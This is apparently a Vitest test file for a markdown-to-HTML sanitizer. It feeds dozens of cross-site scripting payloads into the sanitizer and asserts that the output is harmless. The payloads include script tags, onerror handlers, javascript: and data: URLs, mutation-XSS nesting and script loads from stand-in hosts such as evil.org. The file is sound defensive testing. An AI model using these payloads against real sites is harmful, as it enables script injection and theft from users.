import { describe, expect, test } from "vitest";
import { elementsOf, html } from "./article.ts";

describe("what a hostile author writes", () => {
  test.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.org/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img src=javascript:alert(1)>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="javascript:alert(1) 2x, data:x 3x">',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href=" &#1;javascript:alert(1)">a</a>',
    '<a href="vbscript:x">a</a>',
    "<javascript:alert(1)>",
    "[a](data:text/html,<script>alert(1)</script>)",
    "![a](data:text/html;base64,PHNjcmlwdD4=)",
    '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
    '<q cite="javascript:alert(1)">a</q>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)">a</a></svg>',
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">a</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">a</button></form>',
    '<details open ontoggle="alert(1)">a</details>',
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\na\n```',
    '[a](b "\\"><script>alert(1)</script>")',
    '![\\"><script>alert(1)</script>](b)',
    "[^a]\n\n[^a]: <script>alert(1)</script>",
    '<input type="image" src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)" onclick="alert(1)">a</mi></math>',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi>a<svg><script>alert(1)</script></svg></mi></math>",
    "<math></p><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></math>",
    "$\\href{javascript:alert(1)}{a}$ $\\includegraphics{https://evil.org/a.png}$ $\\style{x:y}{a}$",
    "$\\class{x}{a}$ $\\text{<img src=x onerror=alert(1)>}$ $\\unicode{x3c}$",
    '<iframe src="https://evil.org/a" title="<img src=x onerror=alert(1)>"></iframe>',
    '<iframe src="https://w.soundcloud.com/player/?url=javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.org/a"><a href="javascript:alert(1)">b</a></iframe>',
    '<object data="javascript:alert(1)"><a href="javascript:alert(1)">b</a></object>',
    '<object data="a.svg"><param name="movie" value="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<script src="https://gist.github.com.evil.org/a.js"></script>',
    '<svg><image href="javascript:alert(1)"/><rect/></svg>',
    "<a href=javascript:alert(1)/>b</a>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "A\n: <script>alert(1)</script>",
  ])("%s does nothing", async (markdown) => {
    const known =
      /^(a|img|p|b|i|span|pre|code|video|q|details|table|section|hr|ol|li|sup|figure|audio|blockquote|strong|dl|dt|dd|math|mi|mtext)$/;
    for (const { tagName, properties } of elementsOf(await html(markdown))) {
      expect(tagName).toMatch(known);
      for (const [name, value] of Object.entries(properties)) {
        expect(name).not.toMatch(/^on|^style$|^srcDoc$|action$/i);
        if (/^(href|src|srcSet|poster|cite)$/.test(name))
          expect(value).toMatch(/^https:\/\/(example|evil|w\.soundcloud)\.(org|com)\//);
      }
    }
  });

  test("what no reader was meant to see is not seen", async () => {
    const hidden = ["script", "style", "template", "svg", "iframe", "noscript", "textarea"];
    const written = await html(
      `A${hidden.map((name) => `<${name}>hidden</${name}>`).join("")}<button>shown</button>`,
    );
    expect(written).toBe("<p>Ashown</p>");
  });

  test("what an object holds for those who do not see it is seen", async () => {
    expect(await html("A<object>shown</object>")).toBe("<p>Ashown</p>");
  });

  test("what only looked like a link keeps its words", async () => {
    expect(await html("[a](javascript:x) ![b](data:c)")).toBe("<p><a>a</a> b</p>");
  });
});
